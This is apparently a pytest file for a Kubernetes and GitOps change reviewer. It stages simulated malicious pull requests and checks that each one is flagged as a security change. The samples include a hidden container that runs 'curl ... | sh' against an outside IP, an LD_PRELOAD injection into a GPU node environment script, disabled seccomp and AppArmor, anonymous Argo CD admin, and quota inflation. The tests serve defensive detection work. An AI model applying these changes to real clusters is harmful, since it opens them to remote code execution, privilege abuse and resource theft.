"""Issue 36's attempts on what the clusters run, each on a throwaway commit of a copy of this repository,
reviewed as the deciding side reviews it. Each was exit 0 with no label, as no rule of the security class
knew the field: each is now exit 4, `security`, with a line naming the change and its before -> after
(security/objects.py: default deny; security/quotas.py: quotas and priorities against the fleet plan).

Where the repository writes an object by hand (kustomize/base) the attempt edits that file; where the
generator writes it, the attempt edits the generator (or fleet.yaml) and regenerates with the checkout's own
code, as a pull request's author would (`change_files(..., generate=True)`).
"""

from __future__ import annotations

import pytest

from review.report import summary
from review.review import Review
from tests.review.conftest import Sandbox
from tests.review.test_attempts import CLUSTERS, Edit, change_files

pytestmark = pytest.mark.scenario  # each test plans both sides of a change in the review's sandbox

ALL = ", ".join(CLUSTERS)
WARDEN = "kustomize/base/warden/deployment.yaml"
ARGOCD = "platform/fleet/src/fleet/gitops/argocd.py"
KUEUE = "platform/fleet/src/fleet/gitops/kueue.py"


def _flagged(r: Review) -> None:
    assert (r.exit_code, r.labels) == (4, ["security"]), r.security


def test_a_second_container_in_wardens_pod(sandbox: Sandbox) -> None:
    # Same image, same pod, so the same service account: nothing for pods.py or versions.py to say.
    miner = '          command: ["sh", "-c", "curl -fsSL https://203.0.113.9/x | sh"]\n'
    r = change_files(
        sandbox,
        [(WARDEN, "      volumes:\n", f"        - name: miner\n          image: warden\n{miner}      volumes:\n")],
    )
    assert r.security == [
        f"{ALL}: Deployment.apps warden/warden containers[miner] added "
        "(command: sh, -c, curl -fsSL https://203.0.113.9/x | sh, "
        "image: us-docker.pkg.dev/meridian-train-prod/meridian/warden:0.1.0)"
    ]
    _flagged(r)


@pytest.mark.parametrize(
    ("field", "said"),
    [
        ("  type: LoadBalancer\n", "spec.type: (absent) -> LoadBalancer"),
        ("  externalIPs: [203.0.113.7]\n", "spec.externalIPs: + 203.0.113.7"),
    ],
)
def test_wardens_service_reachable_from_outside(sandbox: Sandbox, field: str, said: str) -> None:
    r = change_files(sandbox, [("kustomize/base/warden/service.yaml", "spec:\n", f"spec:\n{field}")])
    assert r.security == [f"{ALL}: Service warden/warden-metrics {said}"]
    _flagged(r)


def test_a_daemonset_without_seccomp_and_apparmor(sandbox: Sandbox) -> None:
    daemonset = "kustomize/base/image-prepull/daemonset.yaml"
    r = change_files(
        sandbox,
        [
            (
                daemonset,
                "          type: RuntimeDefault\n      affinity:",
                "          type: Unconfined\n      affinity:",
            ),
            (
                daemonset,
                "          securityContext:\n            allowPrivilegeEscalation: false\n",
                "          securityContext:\n            appArmorProfile: {type: Unconfined}\n"
                "            allowPrivilegeEscalation: false\n",
            ),
        ],
    )
    assert r.security == [
        f"{ALL}: DaemonSet.apps meridian-images/trainer-image-prepull "
        "containers[trainer].securityContext.appArmorProfile.type: (absent) -> Unconfined; "
        "securityContext.seccompProfile.type: RuntimeDefault -> Unconfined"
    ]
    _flagged(r)


def test_the_gib_installer_appends_ld_preload_to_the_nccl_env_script(sandbox: Sandbox) -> None:
    # set_nccl_env.sh is copied to every H200 node's /home/kubernetes/bin/gib, which GPU containers mount
    # and source (kustomize/base/gpu-networking/nccl-rdma-installer.yaml; gkr's render.py).
    preload = "echo 'export LD_PRELOAD=/usr/local/gib/lib64/libtrace.so' >> /usr/local/home/kubernetes/bin/gib/scripts/set_nccl_env.sh"
    finishes = '              echo "installation finishes"\n'
    r = change_files(
        sandbox,
        [("kustomize/base/gpu-networking/nccl-rdma-installer.yaml", finishes, f"              {preload}\n{finishes}")],
    )
    assert r.security == [
        f"{ALL}: DaemonSet.apps kube-system/nccl-rdma-installer initContainers[nccl-rdma-installer].args[0] "
        f"adds line {preload}"
    ]
    _flagged(r)


@pytest.mark.parametrize(
    ("label", "value", "selected_by"),
    [
        ("TEAM_LABEL", "meridian.dev/team: research", "admission policies"),
        ("KUEUE_MANAGED_LABEL", "meridian.dev/kueue-managed: true", "Kueue's manager configuration"),
    ],
)
def test_a_team_namespace_losing_a_label_its_policies_select_on(
    sandbox: Sandbox, label: str, value: str, selected_by: str
) -> None:
    # Every team admission policy selects namespaces by meridian.dev/team; Kueue's manager gates jobs without
    # a queue only where meridian.dev/kueue-managed is (team namespaces and Warden's sweeps'): without the
    # label, team-research's pods meet neither.
    r = change_files(
        sandbox,
        [
            (
                "platform/fleet/src/fleet/gitops/teams.py",
                "labels=team_namespace_labels(fleet, team.name),",
                "labels={k: v for k, v in team_namespace_labels(fleet, team.name).items() "
                f'if (team.name, k) != ("research", names.{label})}},',
            )
        ],
        generate=True,
    )
    assert r.security == [f"{ALL}: Namespace team-research label {value} -> (absent) (selected by {selected_by})"]
    _flagged(r)


def test_research_queue_x4_without_the_plan(sandbox: Sandbox) -> None:
    # The renderer multiplies research's queue; the fleet plan (the report's quota table) still says +0.
    r = change_files(
        sandbox,
        [
            (
                KUEUE,
                '"nominalQuota": _quantity(resource, amount),',
                '"nominalQuota": _quantity(resource, amount * (4 if team.name == "research" else 1)),',
            )
        ],
        generate=True,
    )
    assert [d for d in r.teams if d.before != d.after] == []  # the plan's table: no change
    moved = {(d.name, d.before, d.after) for d in r.queues if d.before != d.after}
    assert moved == {
        ("research in us-central1 (ClusterQueue)", 1024, 4096),
        ("research in us-east4 (ClusterQueue)", 768, 3072),
        ("research in europe-west1 (ClusterQueue)", 768, 3072),
    }
    east = next(line for line in r.security if line.startswith("meridian-us-east4: ClusterQueue"))
    assert east.startswith(
        "meridian-us-east4: ClusterQueue.kueue.x-k8s.io research quota cpu/cpu nominal 512 -> 2,048 (the fleet plan: 512); "
    )
    assert "quota h200-a/nvidia.com/gpu nominal 768 -> 3,072 (the fleet plan: 768)" in east
    assert "| research in us-east4 (ClusterQueue) | 768 | 3,072 | +2,304 |" in summary(r)
    _flagged(r)


def test_the_sweep_priority_above_team_workloads(sandbox: Sandbox) -> None:
    r = change_files(
        sandbox, [(KUEUE, "SWEEP_PRIORITY_OFFSET = 100 ", "SWEEP_PRIORITY_OFFSET = -200_000 ")], generate=True
    )
    assert r.security == [
        f"{ALL}: WorkloadPriorityClass.kueue.x-k8s.io warden-sweep value 0 -> 200,100 "
        "(not below preemptible (100), the fleet plan's lowest: it can preempt team workloads)"
    ]
    _flagged(r)


def test_warden_acting_on_everything_with_wider_limits(sandbox: Sandbox) -> None:
    limits = (
        "  act_on: unambiguous\n  unhealthy_share_limit: 0.05\n  window_minutes: 60\n"
        "  max_remediations_per_pool: 2\n  max_remediations_per_cluster: 8\n"
    )
    wider = limits.replace("unambiguous", "all").replace("0.05", "0.5").replace("pool: 2", "pool: 16")
    r = change_files(sandbox, [], (limits, wider.replace("cluster: 8", "cluster: 64")))
    assert r.security == [
        f"{ALL}: ConfigMap warden/warden-policy data.config.json.act_on: unambiguous -> all; "
        "data.config.json.max_per_cluster: 8 -> 64; data.config.json.max_per_pool: 2 -> 16; "
        "data.config.json.unhealthy_share_limit: 0.05 -> 0.5"
    ]
    _flagged(r)


def test_the_platform_project_open_to_any_source_and_cluster_resource(sandbox: Sandbox) -> None:
    edits: list[Edit] = [
        (
            ARGOCD,
            '"sourceRepos": [ARGOCD_REPO, KUBERAY_REPO, KUEUE_REPO, fleet.gitops.repo],',
            '"sourceRepos": ["*"],',
        ),
        (
            ARGOCD,
            '"clusterResourceWhitelist": _kinds(*PRIVILEGED_KINDS, ("", "Namespace"), *MONITORING_CLUSTER_KINDS),',
            '"clusterResourceWhitelist": [{"group": "*", "kind": "*"}],',
        ),
    ]
    r = change_files(sandbox, edits, generate=True)
    (line,) = r.security
    assert line.startswith(f"{ALL}: AppProject.argoproj.io argocd/platform spec.clusterResourceWhitelist: ")
    assert (
        '+ {"group": "*", "kind": "*"}; - {"group": "apiextensions.k8s.io", "kind": "CustomResourceDefinition"}' in line
    )
    assert line.endswith(
        "spec.sourceRepos: + *; - https://github.com/argoproj/argo-cd.git, https://github.com/ray-project/kuberay.git "
        "and 2 more"
    )
    _flagged(r)


def test_argo_cd_anonymous_admin(sandbox: Sandbox) -> None:
    # argocd-cm is rendered as a kustomize patch in the `argocd` Application (fleet.gitops.argocd); the
    # repository renders no argocd-rbac-cm, so the attempt adds a patch for it the same way.
    rbac = (
        '{"target": {"kind": "ConfigMap", "name": "argocd-rbac-cm"}, "patch": "apiVersion: v1\\nkind: ConfigMap\\n'
        'metadata:\\n  name: argocd-rbac-cm\\n  namespace: argocd\\ndata:\\n  policy.default: role:admin\\n"}'
    )
    r = change_files(
        sandbox,
        [
            (
                ARGOCD,
                'RayJob": HEALTH_RAYJOB,\n',
                'RayJob": HEALTH_RAYJOB,\n        "users.anonymous.enabled": "true",\n',
            ),
            (ARGOCD, '"patch": argocd_config_patch_yaml()}]', f'"patch": argocd_config_patch_yaml()}}, {rbac}]'),
        ],
        generate=True,
    )
    assert r.security == [
        f"{ALL}: Application.argoproj.io argocd/argocd "
        "spec.source.kustomize.patches[0].patch.data.users.anonymous.enabled: (absent) -> true; "
        "spec.source.kustomize.patches[1] added (patch.metadata.name: argocd-rbac-cm, patch.metadata.namespace: argocd, "
        "patch.data.policy.default: role:admin, target.name: argocd-rbac-cm)"
    ]
    _flagged(r)
